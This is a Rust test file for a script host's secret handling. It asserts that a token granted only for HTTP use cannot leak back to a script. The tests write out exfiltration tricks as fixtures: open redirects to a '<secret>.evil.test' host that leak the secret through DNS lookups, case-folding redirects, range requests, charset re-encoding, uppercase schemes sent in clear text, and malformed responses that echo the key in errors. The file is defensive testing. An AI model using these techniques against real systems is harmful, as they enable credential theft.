//! Ways by which a script learns a secret that it may only use in `ctx.http`: each test asserts the promise of `docs/secrets.md`.

use std::sync::{Arc, Mutex};

use metier::error::Result;
use metier::host::{HttpClient, HttpRequest, HttpResponse, Providers, SecretProvider, SkillContext};
use metier::policy::{Permission, Permissions, RequestedPermissions};
use metier_core::policy::PathProtection;
use serde_json::{Value, json};

use crate::http::secure::{AUTHORITY, secure_with, url};
use crate::http::server::{Server, answer, redirect};
use crate::http::web;

const TOKEN: &str = "ghp_0123456789abcdefABCDEF0123456789abcd";
const NAMES: &[(&str, &str)] = &[("secure.test", "127.0.0.1"), ("other.test", "127.0.0.1")];

struct Secrets;

impl SecretProvider for Secrets {
    fn secret(&self, _: &SkillContext, name: &str) -> Result<Option<String>> {
        Ok((name == "TOKEN").then(|| TOKEN.to_owned()))
    }
}

fn run_with(grants: &[String], client: impl HttpClient + 'static) -> SkillContext {
    let granted: Vec<Permission> = grants.iter().map(|text| text.parse().unwrap()).collect();
    SkillContext::builder("web")
        .permissions(Permissions::new(RequestedPermissions::All, granted, PathProtection::default()))
        .providers(Providers::default().secrets(Secrets).http(client))
        .build()
}

fn trusting() -> impl HttpClient + 'static {
    web(NAMES).root_certificates(AUTHORITY).unwrap()
}

fn run_for(server: &Server, more: &[&str]) -> SkillContext {
    let mut grants = vec![
        format!("secret:TOKEN@secure.test:{}", server.port()),
        "net:secure.test".into(),
        "net:127.0.0.1".into(),
    ];
    grants.extend(more.iter().map(|grant| (*grant).to_owned()));
    run_with(&grants, trusting())
}

fn secret(ctx: &SkillContext) -> String {
    ctx.call("secret", vec!["TOKEN".into()]).unwrap().as_str().unwrap().to_owned()
}

fn http(ctx: &SkillContext, url: String, options: Value) -> Result<Value> {
    ctx.call("http", vec![url.into(), options])
}

fn query(request: &str) -> String {
    request.split(['?', ' ']).nth(2).unwrap_or_default().to_owned()
}

#[test]
fn the_name_of_a_header_is_searched() {
    let server = secure_with(|request| answer("200 OK", &[&format!("{}: 1", query(request))], "x"));
    let ctx = run_for(&server, &[]);
    let value = http(&ctx, format!("{}?{}", url(&server, "secure.test"), secret(&ctx)), json!({})).unwrap();
    assert!(!value.to_string().to_lowercase().contains(&TOKEN.to_lowercase()), "{value}");
}

#[test]
fn the_error_of_a_redirect_names_no_secret() {
    // An open redirect, as many hosts have one.
    let server = secure_with(|request| redirect(302, &format!("https://{}", query(request))));
    let ctx = run_for(&server, &[]);
    let target = format!("{}?{}.evil.test/", url(&server, "secure.test"), secret(&ctx));
    let error = http(&ctx, target, json!({})).unwrap_err();
    let told = format!("{error} {:?} {:?}", error.help(), error.hint()).to_lowercase();
    assert!(!told.contains(&TOKEN.to_lowercase()), "{told}");
}

/// The parser of URLs of browsers and Node writes hosts in small letters.
#[test]
fn a_redirect_to_a_host_whose_name_has_the_secret_is_refused() {
    let server = secure_with(|request| redirect(302, &format!("https://{}", query(request).to_lowercase())));
    let looked_up = Arc::<Mutex<Vec<String>>>::default();
    let seen = looked_up.clone();
    let client = metier::host::WebClient::new()
        .resolver(move |name| {
            seen.lock().unwrap().push(name.to_owned());
            if name == "secure.test" { Ok(vec!["127.0.0.1".parse().unwrap()]) } else { Ok(Vec::new()) }
        })
        .root_certificates(AUTHORITY)
        .unwrap();
    let grants = [
        format!("secret:TOKEN@secure.test:{}", server.port()),
        "net:secure.test".into(),
        "net:127.0.0.1".into(),
        "net:*.evil.test".into(),
    ];
    let ctx = run_with(&grants, client);
    let target = format!("{}?{}.evil.test/", url(&server, "secure.test"), secret(&ctx));
    drop(http(&ctx, target, json!({})));
    let names = looked_up.lock().unwrap().join(" ").to_lowercase();
    assert!(!names.contains(&TOKEN.to_lowercase()), "looked up: {names}");
}

#[test]
fn a_redirect_in_small_letters_carries_no_secret_away() {
    let other = Server::with_answer(answer("200 OK", &[], "x"));
    let secure = secure_with(|_| answer("200 OK", &[], "x"));
    let target = url(&secure, "127.0.0.1");
    drop(other);
    let server =
        secure_with(move |request| redirect(302, &format!("{target}?{}", query(request).to_lowercase())));
    let ctx = run_for(&server, &[]);
    drop(http(&ctx, format!("{}?{}", url(&server, "secure.test"), secret(&ctx)), json!({})));
    let seen = secure.requests().concat().to_lowercase();
    assert!(!seen.contains(&TOKEN.to_lowercase()), "{seen}");
}

#[test]
fn a_run_that_has_not_asked_for_its_secret_reads_no_answer_with_it() {
    // What an earlier run stored at the host comes back to a later one.
    let server = secure_with(|_| answer("200 OK", &[&format!("x-stored: {TOKEN}")], TOKEN));
    let ctx = run_for(&server, &[]);
    let value = http(&ctx, url(&server, "secure.test"), json!({})).unwrap();
    assert!(!value.to_string().contains(TOKEN), "{value}");
}

#[test]
fn capitals_in_a_scheme_are_no_encryption() {
    #[derive(Clone, Default)]
    struct Recorder(Arc<Mutex<Vec<HttpRequest>>>);
    impl HttpClient for Recorder {
        fn send(&self, _: &SkillContext, request: HttpRequest) -> Result<HttpResponse> {
            let url = request.url.clone();
            self.0.lock().unwrap().push(request);
            Ok(HttpResponse::new(200, url, "x"))
        }
    }
    let recorder = Recorder::default();
    let grants = ["secret:TOKEN@secure.test:8080".to_owned(), "net:secure.test:8080".to_owned()];
    let ctx = run_with(&grants, recorder.clone());
    let options = json!({"headers": {"x-key": secret(&ctx)}});
    drop(http(&ctx, "HTTP://secure.test:8080/".into(), options));
    let sent = format!("{:?}", recorder.0.lock().unwrap());
    assert!(!sent.contains(TOKEN), "sent in the clear: {sent}");
}

#[test]
fn a_part_of_an_answer_is_refused() {
    let server = secure_with(|request| {
        let key = request.lines().find_map(|line| line.strip_prefix("x-key: ")).unwrap_or_default();
        let from =
            request.lines().find_map(|line| line.strip_prefix("request-range: bytes=")).unwrap_or("0-");
        let part = &key[from.trim_end_matches('-').parse::<usize>().unwrap()..];
        answer("206 Partial Content", &["content-range: bytes 5-39/40"], part)
    });
    let ctx = run_for(&server, &[]);
    let options = json!({"headers": {"x-key": secret(&ctx), "request-range": "bytes=5-"}});
    let got =
        http(&ctx, url(&server, "secure.test"), options).map(|value| value.to_string()).unwrap_or_default();
    assert!(!got.contains(&TOKEN[5..]), "{got}");
}

#[test]
fn an_answer_in_another_charset_is_refused() {
    let server = secure_with(|request| {
        let key = request.lines().find_map(|line| line.strip_prefix("x-key: ")).unwrap_or_default();
        let wide: String = key.chars().flat_map(|c| ['\0', c]).collect();
        answer("200 OK", &["content-type: text/plain;charset=UTF-16BE"], &wide)
    });
    let ctx = run_for(&server, &[]);
    let options = json!({"headers": {"x-key": secret(&ctx), "accept": "text/plain;charset=UTF-16BE"}});
    let got = http(&ctx, url(&server, "secure.test"), options)
        .map(|value| value["body"].as_str().unwrap().replace('\0', ""))
        .unwrap_or_default();
    assert!(!got.contains(TOKEN), "{got}");
}

#[test]
fn no_error_repeats_what_the_host_said() {
    for template in [
        "HTTP/1.1 302 Found\r\nlocation: http://[KEY/\r\ncontent-length: 0\r\n\r\n",
        "HTTP/1.1 302 Found\r\nlocation: https://KEY@other.test/\r\ncontent-length: 0\r\n\r\n",
        "HTTP/1.1 302 Found\r\nlocation: ftp://KEY/\r\ncontent-length: 0\r\n\r\n",
        "HTTP/1.1 302 Found\r\nlocation: https://secure.test:KEY/\r\ncontent-length: 0\r\n\r\n",
        "HTTP/1.1 302 Found\r\nlocation: http://secure.test/KEY\r\ncontent-length: 0\r\n\r\n",
        "HTTP/1.1 200 OK\r\ncontent-length: KEY\r\n\r\n",
        "HTTP/1.1 200 OK\r\nKEY\r\n\r\n",
        "HTTP/1.1 KEY OK\r\n\r\n",
        "KEY\r\n\r\n",
        "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nKEY\r\n",
        "HTTP/1.1 200 OK\r\ncontent-length: 2000\r\n\r\nKEY",
    ] {
        let server = secure_with(move |request| template.replace("KEY", &query(request)));
        let ctx = run_for(&server, &[]);
        let told = match http(&ctx, format!("{}?{}", url(&server, "secure.test"), secret(&ctx)), json!({})) {
            Ok(value) => value.to_string(),
            Err(error) => format!("{error} {:?} {:?}", error.help(), error.hint()),
        };
        assert!(!told.to_lowercase().contains(&TOKEN.to_lowercase()[..15]), "{told}");
    }
}

#[test]
fn the_error_of_a_client_of_the_embedder_tells_no_secret() {
    struct Failing;
    impl HttpClient for Failing {
        fn send(&self, _: &SkillContext, request: HttpRequest) -> Result<HttpResponse> {
            let sentence = format!("failed to get {}: connection refused", request.url);
            Err(metier::error::SkillError::new(metier::error::ErrorKind::Io, sentence))
        }
    }
    let grants = ["secret:TOKEN@secure.test".to_owned(), "net:secure.test".to_owned()];
    let ctx = run_with(&grants, Failing);
    let error = http(&ctx, format!("https://secure.test/?{}", secret(&ctx)), json!({})).unwrap_err();
    assert!(!error.message().contains(TOKEN), "{error}");
}
